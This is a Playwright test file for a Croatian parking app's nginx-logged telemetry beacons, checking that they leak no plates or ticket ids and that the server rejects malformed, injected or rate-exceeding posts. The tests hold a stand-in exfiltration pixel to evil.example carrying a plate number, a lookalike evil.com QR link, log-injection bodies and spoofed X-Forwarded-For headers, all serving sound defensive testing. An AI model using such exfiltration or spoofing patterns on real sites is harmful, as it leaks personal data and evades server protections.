// Field data (docs/decisions/021) behind the shipped nginx configuration: the stack on
// the suite's port has it on (VITE_FIELD_DATA=on at "container start", scripts/serve-nginx-e2e.mjs),
// the same app on port+3 has it off, as the image ships. Real journeys at the phone viewport send
// their beacons when the page is hidden (here: the visitor leaves, to the bank or elsewhere);
// nginx writes each as one JSON line to the field log, read here with the app's own schema. The
// whole log (every spec's beacons) is hunted for the plates, fine numbers, tickets, orders,
// requests and invoice ids the journeys used. The report (scripts/field-report.mjs) runs last, on
// the log these journeys made.
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync } from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import type { BrowserContext, Page } from '@playwright/test';
import {
  FIELD_DATA_MAX_BYTES,
  FIELD_DATA_PATH,
  fieldBeaconSchema,
  fitBeacon,
  serializeBeacon,
  type FieldBeacon,
} from '../../src/lib/field-data/beacon-schema.mjs';
import { FOREIGN_LINK, choosePhoto } from '../scan-support';
import { atGateway, chooseAtGateway, hourlyTicketToPayment, lookUpFine, openPayDialog } from './flows';
import { APP_ORIGIN, expect, test, type Watch } from './stack';

/** The smallest beacon the schema accepts. */
const MINIMAL_BEACON = JSON.stringify({
  v: 1,
  route: '/',
  lang: 'hr',
  sw: false,
  release: 'x',
  metrics: {},
  events: [],
});

const PORT = Number(new URL(APP_ORIGIN).port);
const FIELD_LOG = path.join(os.tmpdir(), `vpa-nginx-field-${PORT}.log`);
/** The same build with field data off (the image's default). */
const OFF_ORIGIN = `http://127.0.0.1:${PORT + 3}`;
const BEACON_CHUNK = /\/assets\/beacon-[\w-]+\.js$/;
const FONTS_CSS = /\/assets\/fonts-[\w-]+\.css$/;
const SLOW = { timeout: 30_000 };

// The journeys' beacons feed the report test at the end.
test.describe.configure({ mode: 'serial' });

// The log as it was, beside a failure.
// eslint-disable-next-line no-empty-pattern -- Playwright passes testInfo second, after the fixtures
test.afterEach(async ({}, testInfo) => {
  if (testInfo.status !== testInfo.expectedStatus && existsSync(FIELD_LOG))
    await testInfo.attach('field.log', { path: FIELD_LOG, contentType: 'text/plain' });
});

type Line = { time: string; beacon: string };

/** Every line of the field log: each must be a JSON object of two strings with a schema beacon. */
function readFieldLog(): { lines: Line[]; beacons: FieldBeacon[]; text: string } {
  const text = existsSync(FIELD_LOG) ? readFileSync(FIELD_LOG, 'utf8') : '';
  const lines: Line[] = [];
  const beacons: FieldBeacon[] = [];
  const bad: string[] = [];
  for (const line of text.split('\n')) {
    if (line === '') continue;
    try {
      const parsed = JSON.parse(line) as Line;
      const beacon = fieldBeaconSchema.safeParse(JSON.parse(parsed.beacon));
      if (Object.keys(parsed).join() !== 'time,beacon' || !beacon.success) bad.push(line);
      else {
        lines.push(parsed);
        beacons.push(beacon.data);
      }
    } catch {
      bad.push(line);
    }
  }
  expect(bad, 'field log lines that are not one JSON object with a beacon of the schema').toEqual([]);
  return { lines, beacons, text };
}

/**
 * How many beacons the log holds now. Playwright does not see a beacon posted while its page
 * unloads, so a journey finds its own among the lines written after this mark (other specs' pages
 * may write theirs meanwhile: the checks look for the journey's routes and events).
 */
const logMark = () => readFieldLog().beacons.length;

/** Waits until a beacon written after `mark` passes `wanted`; returns it. */
async function loggedAfter(mark: number, wanted: (beacon: FieldBeacon) => boolean): Promise<FieldBeacon> {
  let found: FieldBeacon | undefined;
  await expect
    .poll(() => {
      found = readFieldLog().beacons.slice(mark).find(wanted);
      return found !== undefined;
    }, SLOW)
    .toBe(true);
  return found!;
}

/** Counts the page's calls of navigator.sendBeacon (read before the page is left). */
async function countBeacons(context: BrowserContext) {
  await context.addInitScript(() => {
    const counted = window as unknown as { __vpaBeacons: number };
    counted.__vpaBeacons = 0;
    const send = navigator.sendBeacon.bind(navigator);
    navigator.sendBeacon = (url, body) => {
      counted.__vpaBeacons += 1;
      return send(url, body);
    };
  });
}

/**
 * Every request the page itself makes for the beacon code (not the service worker's precaching of
 * the release, which fetches every file without running it).
 */
function beaconCodeAsked(context: BrowserContext): string[] {
  const asked: string[] = [];
  context.on('request', (request) => {
    if (!request.serviceWorker() && BEACON_CHUNK.test(request.url())) asked.push(request.url());
  });
  return asked;
}

/** The page is hidden as when the visitor leaves (the events the beacon code listens for). */
async function hideAndCount(page: Page): Promise<number> {
  return page.evaluate(() => {
    Object.defineProperty(document, 'visibilityState', { value: 'hidden', configurable: true });
    document.dispatchEvent(new Event('visibilitychange', { bubbles: true }));
    window.dispatchEvent(new PageTransitionEvent('pagehide'));
    return (window as unknown as { __vpaBeacons: number }).__vpaBeacons;
  });
}

// Marks the page once the beacon code listens for `pagehide`: the code's file having arrived is
// not yet its listeners being there.
test.beforeEach(async ({ context }) => {
  await context.addInitScript(() => {
    const add = window.addEventListener.bind(window);
    window.addEventListener = ((type: string, ...rest: [EventListenerOrEventListenerObject]) => {
      // Called from the beacon's own file (Playwright's scripts listen for pagehide too).
      if (type === 'pagehide' && /\/assets\/beacon-[\w-]+\.js/.test(new Error().stack ?? ''))
        (window as unknown as { __vpaFieldReady: boolean }).__vpaFieldReady = true;
      return add(type, ...rest);
    }) as typeof window.addEventListener;
  });
});

/** Resolves when the page's beacon code (loaded after its first screen) listens. */
const fieldReady = (page: Page) =>
  page.waitForFunction(
    () => (window as unknown as { __vpaFieldReady?: boolean }).__vpaFieldReady === true,
    null,
    SLOW,
  );

/**
 * The visitor switches to another app: the page is hidden (as the browser tells it) and sends its
 * beacon. The purchase's first page view is left for real (to the bank), and the app sends its
 * beacon as it hands over, before the page unloads; at the end of a journey, headless Chromium sometimes loses a beacon sent while a page unloads (with the
 * service worker precaching the release beside it), so the tests hide the last page instead.
 */
async function switchAway(page: Page) {
  await page.evaluate(() => {
    Object.defineProperty(document, 'visibilityState', { value: 'hidden', configurable: true });
    document.dispatchEvent(new Event('visibilitychange', { bubbles: true }));
  });
}

/**
 * The values a journey must never leave in the log: every value with a digit (plates, fine
 * numbers, tickets, orders, payment requests, invoice ids) in the query of any address it asked
 * for or went to, except the zone code, which the beacon keeps on purpose.
 */
function secretsOf(watch: Watch, more: string[]): string[] {
  const values = new Set(more);
  for (const { url } of watch.requests) {
    if (!/^https?:/.test(url)) continue;
    for (const [name, value] of new URL(url).searchParams) {
      // A date or time is no one's; the log's own lines carry times.
      if (['z', 'zoneCode'].includes(name) || !/\d/.test(value) || /^\d{4}-\d{2}-\d{2}/.test(value)) continue;
      if (/^\d+$/.test(value) ? value.length >= 5 : value.length >= 4) values.add(value);
    }
  }
  return [...values];
}

/** The whole log (every spec's beacons) carries none of `secrets`, in any case or spelling. */
function expectNoneInLog(secrets: string[]) {
  const { text } = readFieldLog();
  const folded = text.toLowerCase().replace(/[\s-]/g, '');
  const found = secrets.filter((secret) => folded.includes(secret.toLowerCase().replace(/[\s-]/g, '')));
  expect(found, 'personal data in the field log').toEqual([]);
}

test('a purchase sends a beacon per page view, with route patterns and no plate, ticket, order or request id', async ({
  page,
  watch,
}) => {
  const mark = logMark();
  // The landing's page view sends its beacon only if its beacon code listens when the tile is
  // tapped; a tap on the page as painted, before the app, loads /hourly as a page view of its own.
  await hourlyTicketToPayment(page, 'ZG 4711-FD', 'RI-Z1', fieldReady);
  await fieldReady(page);
  await (await openPayDialog(page)).click();
  await atGateway(page, 'worldline');
  await chooseAtGateway(page, 'Approve');
  await expect(page).toHaveURL(/\/summary\?ticket=/, SLOW);
  const ticket = /ticket no\.\s*(\S+)/i.exec(
    (await page.getByText('You have successfully bought ticket no.').textContent()) ?? '',
  )?.[1];
  await fieldReady(page);
  // The service worker the landing installed (docs/decisions/016) may serve the page on the way back.
  const served = await page.evaluate(() => navigator.serviceWorker.controller !== null);
  await switchAway(page);

  // The page view from the QR landing to the bank, then the one the bank sent back to: a page
  // view is a load of the page, named by the route it loaded (Worldline's return address, from
  // which the app moves on to /summary).
  const form = await loggedAfter(mark, (b) => b.route === '/' && b.zone === 'RI-Z1' && b.lang === 'en');
  const summary = await loggedAfter(mark, (b) => b.route === '/payment-processing' && b.lang === 'en');
  for (const beacon of [form, summary]) {
    expect(typeof beacon.metrics.TTFB).toBe('number');
    expect(typeof beacon.metrics.FCP).toBe('number');
  }
  expect(form.sw, 'the first visit came from the network').toBe(false);
  expect(summary.sw).toBe(served);
  expectNoneInLog(secretsOf(watch, ['ZG4711FD', 'ZG 4711-FD', ...(ticket ? [ticket] : [])]));
});

test('a fine lookup sends its beacon with the route pattern and no fine number or plate', async ({
  page,
  watch,
}) => {
  const mark = logMark();
  await lookUpFine(page, /rijeka/i, '123456', 'RI1234AB');
  await fieldReady(page);
  await switchAway(page);

  const beacon = await loggedAfter(mark, (b) => b.route === '/parking-fine' && b.lang === 'en');
  expect(beacon.zone).toBeUndefined();
  expectNoneInLog(secretsOf(watch, ['123456', 'RI1234AB']));
});

test('a scan refused as foreign is counted, without what the code said', async ({ page }) => {
  const mark = logMark();
  await page.addInitScript(() => {
    navigator.mediaDevices.getUserMedia = () =>
      Promise.reject(new DOMException('Permission denied', 'NotAllowedError'));
  });
  await page.goto('/scan');
  await fieldReady(page);
  await choosePhoto(page, FOREIGN_LINK);
  await expect(page.getByText('https://parking.example.hr.evil.com/?z=RI-Z1')).toBeVisible(SLOW);
  await switchAway(page);

  const beacon = await loggedAfter(
    mark,
    (b) => b.route === '/scan' && b.events.some((e) => e.kind === 'scan-foreign'),
  );
  expect(beacon.events).toContainEqual({ kind: 'scan-foreign', route: '/scan', count: 1 });
  expectNoneInLog(['evil.com']);
});

test('a chunk that fails to load and a policy violation are events of the beacon', async ({
  page,
  context,
  watch,
}) => {
  const mark = logMark();
  await context.route(/\/assets\/scan-page-[\w-]+\.js$/, (route) => route.abort('internetdisconnected'));
  await page.goto('/welcome');
  await fieldReady(page);
  await page.getByRole('link', { name: 'Scan QR code' }).click();
  await expect(page).toHaveURL(/\/scan$/);
  // The page asks for an image of another origin, with a plate in its query: the policy blocks it.
  await page.evaluate(() => {
    const image = document.createElement('img');
    image.src = 'https://evil.example:8443/pixel.png?lp=ZG9876XY';
    document.body.append(image);
  });
  await expect.poll(() => watch.violations.length, SLOW).toBeGreaterThan(0);
  await switchAway(page);

  const beacon = await loggedAfter(
    mark,
    (b) => b.route === '/welcome' && b.events.some((e) => e.kind === 'csp'),
  );
  expect(beacon.events).toContainEqual({ kind: 'chunk', route: '/scan', count: 1 });
  expect(beacon.events).toContainEqual({
    kind: 'csp',
    route: '/scan',
    directive: 'img-src',
    origin: 'https://evil.example:8443',
    count: 1,
  });
  expectNoneInLog(['ZG9876XY', 'pixel.png']);
  // Provoked on purpose: not a failure of this test (the stack's watch fails on any other). Left
  // to the end, as the browser may report the blocked image more than once.
  const provoked = (text: string) => text.includes('evil.example:8443');
  expect(watch.violations.every(provoked)).toBe(true);
  watch.violations.length = 0;
  const others = watch.foreignRequests.filter((url) => !provoked(url));
  watch.foreignRequests.splice(0, watch.foreignRequests.length, ...others);
});

for (const [signal, script] of [
  [
    'Global Privacy Control',
    () => Object.defineProperty(Navigator.prototype, 'globalPrivacyControl', { get: () => true }),
  ],
  ['Do Not Track', () => Object.defineProperty(Navigator.prototype, 'doNotTrack', { get: () => '1' })],
] as const) {
  test(`with ${signal} the page loads no beacon code and sends nothing`, async ({ page, context }) => {
    const asked = beaconCodeAsked(context);
    await countBeacons(context);
    await page.addInitScript(script);
    // The late assets load together with the beacon code (src/app/after-first-screen.tsx).
    const late = page.waitForResponse((response) => FONTS_CSS.test(response.url()), SLOW);
    await page.goto('/?z=RI-Z1');
    await late;
    await page.getByRole('link', { name: /hourly ticket/i }).click();
    await expect(page).toHaveURL(/\/hourly$/);
    expect(
      await page.evaluate(() => [
        (navigator as { globalPrivacyControl?: boolean }).globalPrivacyControl,
        navigator.doNotTrack,
      ]),
    ).toContain(signal === 'Do Not Track' ? '1' : true);
    expect(await hideAndCount(page), 'beacons sent').toBe(0);
    expect(asked).toEqual([]);
  });
}

test('off (the shipped default), nothing is loaded, sent or accepted', async ({ page, context, watch }) => {
  const asked = beaconCodeAsked(context);
  await countBeacons(context);
  const late = page.waitForResponse((response) => FONTS_CSS.test(response.url()), SLOW);
  await page.goto(`${OFF_ORIGIN}/?z=RI-Z1`);
  await late;
  await expect(page.getByRole('link', { name: /hourly ticket/i })).toBeVisible();
  expect(await hideAndCount(page), 'beacons sent').toBe(0);
  expect(asked).toEqual([]);

  const response = await page.request.post(`${OFF_ORIGIN}${FIELD_DATA_PATH}`, {
    headers: { 'Content-Type': 'text/plain;charset=UTF-8' },
    data: MINIMAL_BEACON,
  });
  expect(response.status()).toBe(404);
  // The off stack is this nginx on port+3: not a foreign origin for the stack's watch.
  const foreign = watch.foreignRequests.filter((url) => !url.startsWith(OFF_ORIGIN));
  watch.foreignRequests.splice(0, watch.foreignRequests.length, ...foreign);
});

/**
 * A POST from another client address (127.0.0.2): the rate limit is per address. `forwardedFor`:
 * the X-Forwarded-For a load balancer adds.
 */
function postFrom(
  localAddress: string,
  body: string,
  contentType = 'text/plain;charset=UTF-8',
  forwardedFor?: string,
) {
  return new Promise<number>((resolve, reject) => {
    const request = http.request(
      `${APP_ORIGIN}${FIELD_DATA_PATH}`,
      {
        method: 'POST',
        localAddress,
        headers: {
          'Content-Type': contentType,
          ...(forwardedFor ? { 'X-Forwarded-For': forwardedFor } : {}),
        },
      },
      (response) => {
        response.resume();
        resolve(response.statusCode ?? 0);
      },
    );
    request.on('error', reject);
    request.end(body);
  });
}

test('the server refuses what is not a small beacon, and the log stays JSON lines', async ({ request }) => {
  const post = (data: string, contentType = 'text/plain;charset=UTF-8') =>
    request.post(FIELD_DATA_PATH, { headers: { 'Content-Type': contentType }, data }).then((r) => r.status());
  const good = MINIMAL_BEACON;
  expect(await post(good)).toBe(204);
  expect(await post(`${good.slice(0, -1)},"pad":"${'x'.repeat(5000)}"}`)).toBe(413);
  expect(await post('not json at all "\n{"v":1}')).toBe(400);
  expect(await post('["v",1]')).toBe(400);
  expect(await post('{"v":1,"route":"/"}\n{"v":1,"injected":true}')).toBe(400);
  expect(await post(good, 'application/x-www-form-urlencoded')).toBe(415);
  expect((await request.get(FIELD_DATA_PATH)).status()).toBe(403);
  // Every line still one JSON object with a beacon of the schema (readFieldLog checks), and no
  // refused body got in.
  const { text } = readFieldLog();
  expect(text).not.toMatch(/not json at all|injected|xxxxxxxxxx/);
});

test('the server takes printable ASCII only: raw high bytes or bytes that are not UTF-8 are refused', async ({
  request,
}) => {
  const post = (data: Buffer) =>
    request
      .post(FIELD_DATA_PATH, { headers: { 'Content-Type': 'text/plain;charset=UTF-8' }, data })
      .then((r) => r.status());
  /** A beacon of the schema whose script error says `message`. */
  const withMessage = (message: string) =>
    `${MINIMAL_BEACON.slice(0, -3)}[{"kind":"error","route":"/","message":"${message}","file":"","count":1}]}`;
  // Bytes that are not UTF-8 (a lone 0xff, a cut sequence), and valid UTF-8 sent raw: refused.
  const mark = logMark();
  const [before, after] = withMessage('bad @').split('@') as [string, string];
  expect(
    await post(Buffer.concat([Buffer.from(before), Buffer.from([0xff, 0x41, 0xc3]), Buffer.from(after)])),
  ).toBe(400);
  expect(await post(Buffer.from(withMessage('bad \u00ff\u00fe'), 'latin1'))).toBe(400);
  expect(await post(Buffer.from(withMessage('raw čß€'), 'utf8'))).toBe(400);
  // What the app sends (src/lib/field-data/beacon-schema.mjs serializeBeacon): the same characters
  // as \uXXXX escapes, accepted and read back as they were.
  const sent = serializeBeacon(JSON.parse(withMessage('escaped čß€')));
  expect(sent).toMatch(/^[\x20-\x7e]+$/);
  expect(await post(Buffer.from(sent))).toBe(204);
  // The log: JSON lines of schema beacons only (readFieldLog), the escaped one among them (written
  // by the log's own process, after the answer: waited for), the raw ones not.
  await loggedAfter(mark, (beacon) =>
    beacon.events.some((event) => 'message' in event && event.message === 'escaped čß€'),
  );
  const messages = readFieldLog()
    .beacons.slice(mark)
    .flatMap((beacon) => beacon.events.map((event) => ('message' in event ? event.message : '')));
  expect(messages).toContain('escaped čß€');
  expect(messages.join()).not.toMatch(/bad|raw/);
  expect(
    [...readFileSync(FIELD_LOG)].filter((byte) => byte > 0x7e),
    'bytes outside ASCII in the log',
  ).toEqual([]);
});

test('a burst beyond the rate limit from one address is refused', async () => {
  const statuses: number[] = [];
  for (let i = 0; i < 40; i += 1) statuses.push(await postFrom('127.0.0.2', MINIMAL_BEACON));
  expect(statuses).toContain(204);
  expect(statuses.filter((status) => status === 429).length).toBeGreaterThan(10);
});

test('behind a load balancer the operator names, each driver has a limit of their own; no one else is believed', async () => {
  // This stack trusts 127.0.0.4 (VPA_TRUSTED_PROXIES): 40 drivers behind it, one beacon each.
  const drivers: number[] = [];
  for (let i = 0; i < 40; i += 1)
    drivers.push(await postFrom('127.0.0.4', MINIMAL_BEACON, undefined, `198.51.100.${i + 1}`));
  expect(drivers.filter((status) => status !== 204)).toEqual([]);
  // One driver behind it is held to the limit, whatever it writes in front of the balancer's entry.
  const one: number[] = [];
  for (let i = 0; i < 40; i += 1)
    one.push(await postFrom('127.0.0.4', MINIMAL_BEACON, undefined, `203.0.113.${i + 1}, 198.51.100.200`));
  expect(one.filter((status) => status === 429).length).toBeGreaterThan(10);
  // From an address the operator did not name, the header is not believed: one limit for all.
  const untrusted: number[] = [];
  for (let i = 0; i < 40; i += 1)
    untrusted.push(await postFrom('127.0.0.5', MINIMAL_BEACON, undefined, `192.0.2.${i + 1}`));
  expect(untrusted.filter((status) => status === 429).length).toBeGreaterThan(10);
});

test('the server takes a body of the beacon schema only: a printable line that merely starts like one is refused', async ({
  request,
}) => {
  const post = (data: string) =>
    request
      .post(FIELD_DATA_PATH, { headers: { 'Content-Type': 'text/plain;charset=UTF-8' }, data })
      .then((r) => r.status());
  const mark = logMark();
  const junk = [
    `{"v":1,${'A'.repeat(200)}}`,
    '{"v":1,"route":"/","lang":"hr","sw":false,"release":"x","metrics":{},"events":[],"note":"hi"}',
    '{"v":1,"route":"/summary?ticket=123","lang":"hr","sw":false,"release":"x","metrics":{},"events":[]}',
    '{"v":1,"route":"/","lang":"xx","sw":false,"release":"x","metrics":{},"events":[]}',
    '{"v":1,"route":"/","lang":"hr","sw":false,"release":"x","metrics":{},"events":[{"kind":"chunk","route":"/","count":1},]}',
    '{"v":1,"route":"/","lang":"hr","sw":false,"release":"x","metrics":{},"events":[{"kind":"error","route":"/","message":"fine 1234567","file":"","count":1}]}',
    '{"v":1,"route":"/","lang":"hr","sw":false,"release":"x","metrics":{"LCP":"ZG1234AB"},"events":[]}',
  ];
  for (const body of junk) expect(await post(body), body).toBe(400);
  // What the app sends is taken: twenty long events, cut to the limit as the app cuts them.
  // Mostly characters the app sends as \uXXXX escapes (six bytes each).
  const long = `Greška: ${'čćžšđ'.repeat(30)}`;
  const events = Array.from({ length: 20 }, (_, i) => ({
    kind: 'error' as const,
    route: '/parking-fine-details',
    message: `${String.fromCharCode(97 + i)} ${long}`.slice(0, 120),
    file: `chunk-${String.fromCharCode(97 + i)}.js`,
    count: 1,
  }));
  const beacon = fieldBeaconSchema.parse({ ...JSON.parse(MINIMAL_BEACON), events });
  expect(serializeBeacon(beacon).length, 'more than nginx takes').toBeGreaterThan(FIELD_DATA_MAX_BYTES);
  const fitted = fitBeacon(beacon);
  expect(fitted.length).toBeLessThanOrEqual(FIELD_DATA_MAX_BYTES);
  expect(await post(fitted)).toBe(204);
  const logged = await loggedAfter(mark, (entry) =>
    entry.events.some((event) => 'file' in event && event.file === 'chunk-a.js'),
  );
  expect(logged.events.length).toBeGreaterThanOrEqual(4);
  expect(readFieldLog().text).not.toMatch(/AAAAAAAAAA|"note"|ZG1234AB|1234567/);
});

test('the report reads the journeys’ log: per route and language, p75 against "good", failures; and its HTML page', () => {
  const out = mkdtempSync(path.join(os.tmpdir(), 'vpa-field-report-'));
  const html = path.join(out, 'report.html');
  const text = execFileSync('node', ['scripts/field-report.mjs', FIELD_LOG, '--html', html], {
    cwd: path.resolve(import.meta.dirname, '../..'),
    encoding: 'utf8',
  });
  expect(text).toMatch(/^Field data: \d+ page views/);
  expect(text).toMatch(/^\/payment-processing \[en\]\s+page views: \d+$/m);
  expect(text).toMatch(/^\/parking-fine \[en\]\s+page views: \d+$/m);
  expect(text).toMatch(/^ {2}LCP\s+p75\s+\d+ ms\s+\(good <= 2500 ms, n=\d+\) (good|over)$/m);
  expect(text).toMatch(/^ {2}failures: .*scan-foreign \d+/m);
  expect(text).toMatch(/^ {2}failures: .*chunk \d+/m);
  expect(text).toMatch(/^ {2}failures: .*csp \d+/m);

  const page = readFileSync(html, 'utf8');
  expect(page).toMatch(/^<!doctype html>/);
  // Self-contained: no script, no external file.
  expect(page).not.toMatch(/<script|<link|src=|href=|url\(/i);
  expect(page.match(/<svg /g)).toHaveLength(5);
  for (const metric of ['LCP', 'INP', 'CLS', 'FCP', 'TTFB'])
    expect(page).toContain(`<figcaption>${metric}</figcaption>`);
  expect(page).toContain('<th scope="row">/payment-processing</th>');
});
